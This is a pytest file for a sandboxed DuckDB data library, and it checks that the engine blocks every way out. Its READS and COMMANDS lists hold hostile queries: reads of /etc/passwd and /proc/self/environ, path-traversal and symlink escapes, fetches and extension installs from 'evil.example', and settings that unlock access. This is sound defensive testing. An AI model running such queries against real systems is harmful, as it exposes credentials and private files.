"""The engine sees its own files and one folder to write in, and nothing else, whatever it is asked (R3.4)."""

import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from easement.base.errors import EasementError
from easement.sources.files import open_sources
from easement.sources.model import File
from easement.sources.session import Session
from tests.sources.reading import put

SECRET = "the-neighbour's-secret"


@pytest.fixture
def house(tmp_path: Path) -> Iterator[tuple[Session, Path]]:
    """A session over `data/people.csv` that may write in `out`; a neighbour's file stands beside each."""
    for folder in ("data", "out", "elsewhere"):
        (tmp_path / folder).mkdir()
    for folder in ("data", "elsewhere"):
        put(tmp_path / folder, f"s\n{SECRET}\n", "neighbour.csv")
    (tmp_path / "out" / "door.csv").symlink_to(tmp_path / "elsewhere" / "neighbour.csv")
    path = put(tmp_path / "data", "name\nann\n")
    with open_sources(File(path), output=tmp_path / "out") as session:
        yield session, tmp_path


READS = [
    "FROM read_text('/etc/passwd')",
    "FROM '/etc/passwd'",
    "FROM read_csv('/etc/passwd', sep = ':', header = false)",
    "FROM read_blob('/proc/self/environ')",
    "FROM read_text('/proc/self/cmdline')",
    "FROM glob('/etc/*')",
    "FROM glob('{root}/**')",
    "FROM read_csv('{root}/data/neighbour.csv')",
    "FROM '{root}/data/neighbour.csv'",
    "FROM read_csv('{root}/data/*.csv')",
    "FROM read_csv('{root}/data/../elsewhere/neighbour.csv')",
    "FROM read_csv('{root}/out/../elsewhere/neighbour.csv')",
    "FROM read_csv('{root}/out/door.csv')",
    "FROM read_text('{root}/./data//neighbour.csv')",
    "FROM read_text('file://{root}/data/neighbour.csv')",
    "FROM read_text('file:{root}/data/neighbour.csv')",
    "FROM read_text('data/neighbour.csv')",
    "FROM read_text(['{root}/data/people.csv', '{root}/data/neighbour.csv'])",
    "FROM query('FROM read_text(''/etc/passwd'')')",
    "FROM query_table('/etc/passwd')",
    "FROM query('FROM query(''FROM read_csv(\"\"/etc/passwd\"\")'')')",
    "FROM sniff_csv('{root}/data/neighbour.csv')",
    "FROM parquet_metadata('{root}/data/neighbour.parquet')",
    "FROM read_json_objects('{root}/data/neighbour.csv')",
    "FROM read_csv('https://evil.example/x.csv')",
    "FROM read_parquet('s3://evil/x.parquet')",
    "FROM 'hf://datasets/x/y.csv'",
    "FROM read_csv('data:text/csv,a')",
    "SELECT getenv('HOME')",
    "FROM leaked",
    "FROM sqlite_scan('/tmp/x.db', 't')",
    "FROM postgres_scan('', '', '')",
]
COMMANDS = [
    "COPY source TO '{root}/elsewhere/x.csv'",
    "COPY source TO '{root}/data/x.csv'",
    "COPY source TO '{root}/data/people.csv.new'",
    "COPY source TO '{root}/out/../elsewhere/x.csv'",
    "COPY source TO '{root}/out/door.csv' (USE_TMP_FILE false)",
    "COPY source TO '/dev/stdout'",
    "COPY source TO '{root}/elsewhere' (FORMAT parquet, PARTITION_BY (name))",
    "EXPORT DATABASE '{root}/elsewhere'",
    "IMPORT DATABASE '{root}/elsewhere'",
    "CREATE TABLE t AS FROM read_text('/etc/passwd')",
    "ATTACH '{root}/elsewhere/x.db'",
    "ATTACH '/etc/passwd' AS p",
    "ATTACH 'dbname=x' AS p (TYPE postgres)",
    "INSTALL httpfs",
    "FORCE INSTALL httpfs FROM 'https://evil.example'",
    "LOAD httpfs",
    "LOAD '{root}/elsewhere/x.duckdb_extension'",
    "SET enable_external_access = true",
    "SET lock_configuration = false",
    "RESET lock_configuration",
    "SET allowed_directories = ['/']",
    "RESET allowed_paths",
    "SET temp_directory = '/etc'",
    "SET memory_limit = '100GB'",
    "SET python_enable_replacements = true",
    "SET autoload_known_extensions = true",
    "SET home_directory = '/etc'",
    "SET secret_directory = '/etc'",
    "SET log_query_path = '{root}/elsewhere/log'",
    "SET profiling_output = '{root}/elsewhere/profile'",
    "PRAGMA enable_profiling = 'json'",
    "PRAGMA profiling_output = '{root}/elsewhere/profile'",
    "CALL enable_logging(storage = 'file', storage_path = '{root}/elsewhere')",
    "CALL enable_logging(level = 'trace')",
    "SET GLOBAL threads = 64",
    "CREATE PERSISTENT SECRET s (TYPE s3)",
]


@pytest.mark.parametrize("attempt", [*READS, *COMMANDS])
def test_every_way_out_is_shut(house: tuple[Session, Path], attempt: str) -> None:
    session, root = house
    leaked = [SECRET]  # noqa: F841 (what a scan of Python's variables would find)
    before = {path: path.read_bytes() for path in sorted(root.rglob("*")) if path.is_file()}
    with pytest.raises(EasementError) as raised, session.cursor() as cursor:
        cursor.execute(attempt.format(root=root)).fetchall()
    assert SECRET not in str(raised.value)
    assert "root:" not in str(raised.value)
    assert {path: path.read_bytes() for path in sorted(root.rglob("*")) if path.is_file()} == before


@pytest.mark.parametrize("attempt", COMMANDS)
def test_a_measure_runs_no_command_at_all(house: tuple[Session, Path], attempt: str) -> None:
    session, root = house
    with pytest.raises(EasementError):
        session.measure(attempt.format(root=root))
    with pytest.raises(EasementError):
        session.measure(f"SELECT 1; {attempt.format(root=root)}")


def test_what_is_meant_to_be_open_is_open(house: tuple[Session, Path]) -> None:
    session, root = house
    with session.cursor() as cursor:
        assert cursor.execute(f"FROM read_csv('{root}/data/people.csv')").fetchall() == [("ann",)]
        cursor.execute(f"COPY source TO '{root}/out/x.csv'").fetchall()
    assert (root / "out" / "x.csv").read_text() == "name\nann\n"


def test_the_lock_holds_on_every_cursor(house: tuple[Session, Path]) -> None:
    session, _ = house
    names = (
        "enable_external_access", "lock_configuration", "python_enable_replacements", "autoload_known_extensions",
        "autoinstall_known_extensions", "allow_community_extensions", "temp_file_encryption", "enable_logging",
    )  # fmt: skip
    settings = f"SELECT name, value FROM duckdb_settings() WHERE name IN {names}"
    assert dict(session.measure(settings)) == {
        "enable_external_access": "false", "lock_configuration": "true", "python_enable_replacements": "false",
        "autoload_known_extensions": "false", "autoinstall_known_extensions": "false", "enable_logging": "0",
        "allow_community_extensions": "false", "temp_file_encryption": "true",
    }  # fmt: skip


SPILLING = """
import sys
from pathlib import Path
from easement.sources.files import open_source
from easement.sources.rows import stream
with open_source(sys.argv[1], output=Path(sys.argv[2]), memory="100MB") as source:
    query = "SELECT 'zebedee ' || hash(range) AS name, range AS id FROM range(2500000) ORDER BY 1"
    rows = stream(source.session, query)
    next(rows)
    spilled = [path for path in Path(sys.argv[2]).rglob("*") if path.is_file()]
    folders = [path for path in Path(sys.argv[2]).iterdir() if path.is_dir()]
    print(sum(path.stat().st_size for path in spilled) > 1_000_000)
    print(any(b"zebedee" in path.read_bytes() for path in spilled))
    print([oct(folder.stat().st_mode & 0o777) for folder in folders])
"""


def test_what_spills_is_encrypted_private_and_goes_with_the_session(tmp_path: Path) -> None:
    (tmp_path / "out").mkdir()
    path = put(tmp_path, "a\n1\n")
    done = subprocess.run(
        [sys.executable, "-c", SPILLING, path, tmp_path / "out"], capture_output=True, text=True, check=True
    )
    assert done.stdout.split("\n") == ["True", "False", "['0o700']", ""]
    assert list((tmp_path / "out").iterdir()) == []


def test_a_copy_made_to_read_another_encoding_has_no_name(tmp_path: Path) -> None:
    (tmp_path / "out").mkdir()
    path = put(tmp_path, "name\nzoë\n".encode("cp1252"))
    with open_sources(File(path, encoding="cp1252"), output=tmp_path / "out") as session:
        assert session.measure("FROM source") == [("zoë",)]
        assert not [found for found in tmp_path.rglob("*") if found.is_file() and found != path]
        links = [link for link in Path("/proc/self/fd").iterdir() if link.is_symlink()]
        targets = [str(link.readlink()) for link in links if link.is_symlink()]
        assert any(str(tmp_path / "out") in target and "(deleted)" in target for target in targets)


def test_a_query_that_never_ends_is_stopped(tmp_path: Path) -> None:
    path = put(tmp_path, "name\n" + "ann\n" * 10)
    with open_sources(File(path), seconds=0.2) as session:
        endless = "SELECT count(*) FROM range(10000000000000) a, source WHERE hash(a.range) % 7 = length(name)"
        with pytest.raises(EasementError, match=r"the query took longer than 0\.2 seconds and was stopped") as raised:
            session.measure(endless)
        assert "`seconds`" in raised.value.remedy
        assert session.measure("SELECT count(*) FROM source") == [(10,)]
